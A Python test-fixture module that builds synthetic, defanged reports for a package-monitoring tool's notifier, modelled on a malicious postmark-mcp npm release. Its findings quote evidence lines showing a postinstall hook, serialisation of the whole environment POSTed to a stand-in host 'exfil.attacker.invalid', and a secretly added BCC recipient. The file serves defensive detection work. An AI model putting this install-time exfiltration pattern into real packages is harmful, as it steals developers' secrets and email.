"""Synthetic, defanged reports for notifier tests (attacker hosts under `.invalid`)."""

from __future__ import annotations

from watcher.models import (
    Ecosystem,
    FileCounts,
    Finding,
    MetadataSummary,
    Provenance,
    Report,
    RuleFailure,
    Severity,
)

LINKS = (
    "https://www.npmjs.com/package/postmark-mcp/v/1.0.15",
    "https://www.npmjs.com/package/postmark-mcp/v/1.0.16",
)


def critical_report() -> Report:
    """postmark-mcp 1.0.16-style rug pull, plus the install-time tricks that escalate it."""
    findings = (
        Finding(
            rule="npm.install-script",
            severity=Severity.HIGH,
            message="a postinstall script was added (runs on every npm install)",
            category="install-hook",
            path="package.json",
            line=9,
            evidence='"postinstall": "node scripts/setup.js"',
        ),
        Finding(
            rule="code.new-host",
            severity=Severity.MEDIUM,
            message="a new hard-coded host: exfil.attacker.invalid",
            category="host",
            path="scripts/setup.js",
            line=4,
            evidence='const u = "https://exfil.attacker.invalid/c?d=" + data;',
        ),
        Finding(
            rule="code.email-bcc-added",
            severity=Severity.CRITICAL,
            message="a BCC recipient was added to outgoing mail",
            category="exfiltration",
            path="index.js",
            line=231,
            evidence="Bcc: 'phan@giftshop.invalid',",
        ),
        Finding(
            rule="code.env-access",
            severity=Severity.HIGH,
            message="the whole environment is serialised",
            category="env",
            path="scripts/setup.js",
            line=7,
            evidence="const data = JSON.stringify(process.env) && `${a}<b>`;",
        ),
        Finding(
            rule="code.network",
            severity=Severity.MEDIUM,
            message="new network access (https.request)",
            category="network",
            path="scripts/setup.js",
            line=9,
            evidence="https.request(u, { method: 'POST' }).end(data);",
        ),
        Finding(
            rule="meta.publisher-changed",
            severity=Severity.MEDIUM,
            message="published by a different account than 1.0.15 (<phan> & co)",
            category="publisher",
        ),
    )
    return Report(
        ecosystem=Ecosystem.NPM,
        package="postmark-mcp",
        old_version="1.0.15",
        new_version="1.0.16",
        score=97,
        severity=Severity.CRITICAL,
        findings=findings,
        files=FileCounts(added=1, removed=0, changed=3),
        metadata=MetadataSummary(
            publisher_changed=True, provenance=Provenance.ABSENT, version_jump=False
        ),
        artifacts=("postmark-mcp-1.0.16.tgz",),
        reasons=(
            "code that runs at install time arrives together with new network, process, "
            "dynamic-code, secret or environment access",
            "new code dumps the environment and reaches the network (exfiltration)",
        ),
        rule_failures=(RuleFailure(rule="code.obfuscation", error="RecursionError"),),
        links=LINKS,
    )


def huge_report(findings: int = 200, evidence_len: int = 10_000) -> Report:
    """Many findings with enormous evidence lines full of characters that escape."""
    base = critical_report()
    many = tuple(
        Finding(
            rule=f"code.obfuscation.{i}",
            severity=(Severity.LOW, Severity.MEDIUM, Severity.HIGH, Severity.CRITICAL)[i % 4],
            message="m<&>" * 400,
            category="obfuscation",
            path="dist/" + "very-long-directory-name/" * 40 + f"bundle{i}.js",
            line=i + 1,
            evidence=("<&>`" * (evidence_len // 4))[:evidence_len],
        )
        for i in range(findings)
    )
    return Report(
        ecosystem=base.ecosystem,
        package="@scope/" + "x" * 300,
        old_version="1.0.0",
        new_version="99.0.0",
        score=100,
        severity=Severity.CRITICAL,
        findings=many,
        files=FileCounts(added=900, removed=12, changed=40),
        metadata=base.metadata,
        reasons=tuple("reason <&> " * 100 for _ in range(20)),
        rule_failures=tuple(RuleFailure(rule=f"rule.{i}", error="boom") for i in range(50)),
        links=tuple(f"https://registry.invalid/p/{i}?a=1&b=<2>|x" for i in range(100)),
    )
